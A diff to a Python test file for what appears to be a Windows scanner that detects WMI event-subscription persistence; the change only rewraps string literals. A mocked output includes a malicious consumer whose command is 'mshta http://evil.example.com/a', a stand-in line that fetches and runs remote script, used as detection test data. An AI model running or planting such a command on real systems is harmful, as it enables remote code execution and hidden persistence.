@@ -26,7 +26,10 @@ from lamsach.scanner.index import Index, build_index
 from lamsach.scanner.options import Options
 from lamsach.scanner.safe_open import Skipped
 
-BINDING = '__FilterToConsumerBinding.Consumer="CommandLineEventConsumer.Name=\\"o\'k\\"",Filter="__EventFilter.Name=\\"f\\""'
+BINDING = (
+    '__FilterToConsumerBinding.Consumer="CommandLineEventConsumer.Name=\\"o\'k\\"",'
+    'Filter="__EventFilter.Name=\\"f\\""'
+)
 
 
 def stream_list(*names: str) -> bytes:
@@ -166,7 +169,11 @@ class System:
         elif "GetText" in script and wanted in self.bindings:
             output = "instance of __FilterToConsumerBinding { };"
         elif "ConvertTo-Json" in script:
-            output = '{"path":"p","name":"SCM Event Log Consumer"}\n{"path":"q","name":"bad","command":"mshta http://evil.example.com/a","program":"","script":"","file":""}\n'
+            output = (
+                '{"path":"p","name":"SCM Event Log Consumer"}\n'
+                '{"path":"q","name":"bad","command":"mshta http://evil.example.com/a","program":"",'
+                '"script":"","file":""}\n'
+            )
         return f"\ufeff{output}lamsach-end\r\n"
 
 
